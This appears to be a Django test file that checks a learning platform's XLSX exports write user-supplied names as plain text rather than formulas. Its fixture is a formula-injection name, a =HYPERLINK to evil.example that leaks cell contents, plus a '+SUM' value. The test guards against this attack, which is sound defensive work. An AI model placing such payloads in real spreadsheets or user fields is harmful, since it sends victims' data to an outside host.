"""Spreadsheet exports write every cell as data: a learner who names themself ``=HYPERLINK(...)`` is a
text cell in the trainer's and the organisation admin's XLSX, never a formula (no ``<f>`` element)."""

import io
import zipfile
from datetime import timedelta

from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lms.models import Enrolment
from lms.services import make_organisation_admin
from tests.factories import UserFactory

from .factories import member, organisation

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def sheets_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))


def download(client: Client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_no_export_writes_a_formula_cell(tree):
    unit = organisation("ICT Division", code="ictd")
    learner = member(unit, username="mallory", first_name=FORMULA_NAME, last_name="+SUM(1)\x01")
    Enrolment.objects.create(
        user=learner, course=tree.course, due_on=timezone.localdate() - timedelta(days=3), assignment=None
    )
    officer = UserFactory(username="officer", is_superuser=True, is_staff=True)
    make_organisation_admin(user=officer, organisation=unit)
    client = Client()
    client.force_login(officer)
    urls = [
        reverse("lms_admin:organisation_export", args=[unit.pk, "xlsx"]),
        reverse("lms_admin:organisation_overdue_export", args=[unit.pk, "xlsx"]),
        reverse("lms_admin:course_export", args=[tree.course.pk, "xlsx"]),
    ]
    for url in urls:
        content = download(client, url)
        xml = sheets_xml(content)
        assert "<f>" not in xml and "<f " not in xml, url
        values = [value for row in load_workbook(io.BytesIO(content)).active.values for value in row]
        texts = [value for value in values if isinstance(value, str)]
        assert any(text.startswith("=HYPERLINK") for text in texts), (url, texts)
        assert not any("\x01" in text for text in texts)
